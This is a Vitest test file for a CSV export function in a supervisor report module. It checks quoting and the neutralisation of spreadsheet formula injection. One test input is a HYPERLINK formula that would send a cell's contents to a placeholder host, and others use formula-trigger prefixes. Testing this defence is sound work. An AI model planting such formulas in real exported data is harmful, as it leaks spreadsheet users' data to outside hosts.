import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/supervisor/supervisor.routes.js';

describe('report CSV', () => {
  it('has a header row and quotes what needs quoting', () => {
    expect(toCsv([{ name: 'Иванов, Иван', handled: 3, note: 'say "hi"', none: null, on: true }])).toBe('name,handled,note,none,on\n"Иванов, Иван",3,"say ""hi""",,true\n');
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP), not numbers', () => {
    const csv = toCsv([
      { name: '=HYPERLINK("http://x.example/?"&A1,"click")', a: '+1+1', b: '-2+3', c: '@SUM(A1)', d: '\t=1', e: '\r=1', n: -5, f: 1.5, ok: 'a=b' },
    ]);
    const [, row] = csv.split('\n');
    expect(row).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+1+1,'-2+3,'@SUM(A1),'\t=1,"'\r=1",-5,1.5,a=b`);
  });

  it('an empty report is an empty file', () => {
    expect(toCsv([])).toBe('');
  });
});
